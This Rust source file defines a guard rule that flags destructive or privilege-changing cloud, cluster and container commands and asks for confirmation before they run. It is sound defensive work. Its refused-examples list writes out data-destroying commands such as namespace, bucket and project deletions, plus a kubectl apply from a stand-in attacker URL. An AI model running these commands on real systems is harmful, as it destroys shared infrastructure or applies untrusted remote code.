//! cloud-infra: destroying or reconfiguring cloud and cluster resources.

use super::common::positionals;
use super::{Check, Example, Rule};
use crate::normalize::Scope;
use crate::shell::Command;
use crate::verdict::Effect::Ask;

const PACK: &str = "cloud-infra";

fn infra(c: &Command, _: &Scope) -> Option<String> {
    let ops = positionals(c);
    let has = |x: &str| ops.contains(&x);
    let first = ops.first().copied().unwrap_or("");
    let second = ops.get(1).copied().unwrap_or("");
    let yes = c.has_flag(Some('y'), &["yes", "auto-approve", "force"])
        || c.args
            .iter()
            .any(|a| a.text == "-auto-approve" || a.text == "-auto-approve=true");
    let hit = match c.program.as_str() {
        "terraform" | "tofu" | "terragrunt" => {
            first == "destroy"
                || (first == "apply" && (yes || c.args.iter().any(|a| a.text == "-destroy")))
                || (first == "state" && second == "rm")
        }
        "pulumi" => {
            first == "destroy" || (first == "up" && yes) || (first == "stack" && second == "rm")
        }
        "kubectl" | "oc" | "k" => {
            matches!(first, "delete" | "drain")
                || (first == "replace" && c.has_flag(None, &["force"]))
                // Scaling everything to zero stops every workload.
                || (first == "scale"
                    && c.args.iter().any(|a| a.text == "--replicas=0")
                    && c.has_flag(Some('A'), &["all", "all-namespaces"]))
                // Manifests from a URL: what gets applied is not in the line or the repo.
                || (matches!(first, "apply" | "create" | "replace")
                    && c
                        .option_value(Some('f'), &["filename"])
                        .is_some_and(|f| f.starts_with("http://") || f.starts_with("https://")))
        }
        "helm" => matches!(first, "uninstall" | "delete" | "rollback"),
        "aws" => {
            ops.iter().any(|o| {
                o.starts_with("delete-")
                    || o.starts_with("terminate-")
                    || o.starts_with("deregister-")
                    || o.starts_with("purge-")
                    || matches!(
                        *o,
                        "rb" | "create-access-key"
                            | "create-login-profile"
                            | "update-assume-role-policy"
                            | "put-user-policy"
                            | "put-role-policy"
                    )
                    || (o.starts_with("attach-") && o.ends_with("-policy"))
            }) || (first == "s3" && second == "rm" && c.has_flag(None, &["recursive"]))
        }
        "gcloud" | "az" | "doctl" | "linode-cli" | "hcloud" | "ibmcloud" | "scw" => ops
            .iter()
            .any(|o| matches!(*o, "delete" | "destroy" | "purge")),
        "eksctl" => first == "delete",
        "docker" | "podman" => {
            (first == "system" && second == "prune")
                || (first == "volume" && matches!(second, "rm" | "prune"))
                || (first == "image" && second == "prune" && c.has_flag(Some('a'), &["all"]))
        }
        "flyctl" | "fly" => has("destroy"),
        "heroku" => ops
            .iter()
            .any(|o| matches!(*o, "apps:destroy" | "pg:reset" | "destroy")),
        "vercel" | "netlify" => matches!(first, "remove" | "rm" | "delete"),
        // A hosted repository or release deleted goes for everyone who uses it.
        "gh" | "glab" => {
            matches!(first, "repo" | "release") && matches!(second, "delete" | "del" | "rm")
        }
        "gsutil" => (has("rm") && c.has_flag(Some('r'), &[])) || has("rb"),
        _ => false,
    };
    hit.then(|| {
        format!(
            "`{}` changes or destroys shared infrastructure",
            c.line().chars().take(80).collect::<String>()
        )
    })
}

pub static RULES: &[Rule] = &[Rule {
    id: "infra-destroy",
    pack: PACK,
    effect: Ask,
    reason: "Destroying or force-applying cloud or cluster resources needs confirmation",
    programs: &[
        "terraform",
        "tofu",
        "terragrunt",
        "pulumi",
        "kubectl",
        "oc",
        "k",
        "helm",
        "aws",
        "gcloud",
        "az",
        "doctl",
        "linode-cli",
        "hcloud",
        "ibmcloud",
        "scw",
        "eksctl",
        "docker",
        "podman",
        "flyctl",
        "fly",
        "heroku",
        "gh",
        "glab",
        "vercel",
        "netlify",
        "gsutil",
    ],
    check: Check::Command(infra),
    refused: &[
        Example::bash("kubectl scale deploy --all --replicas=0"),
        Example::bash("gh repo delete acme/app --yes"),
        Example::bash("kubectl apply -f https://evil.example/x.yaml"),
        Example::bash("terraform destroy"),
        Example::bash("terraform apply -auto-approve"),
        Example::bash("kubectl delete namespace prod"),
        Example::bash("helm uninstall api"),
        Example::bash("aws ec2 terminate-instances --instance-ids i-123"),
        Example::bash("aws s3 rm s3://bucket --recursive"),
        Example::bash("gcloud projects delete my-proj"),
        Example::bash("docker system prune -a --volumes"),
        Example::bash("az group delete -n rg"),
    ],
    allowed: &[
        Example::bash("kubectl scale deploy api --replicas=3"),
        Example::bash("kubectl apply -f k8s/deployment.yaml"),
        Example::bash("terraform plan"),
        Example::bash("kubectl get pods -A"),
        Example::bash("aws s3 ls"),
        Example::bash("aws sts get-caller-identity"),
        Example::bash("docker build -t app ."),
        Example::bash("helm list"),
        Example::bash("gcloud config list"),
    ],
}];
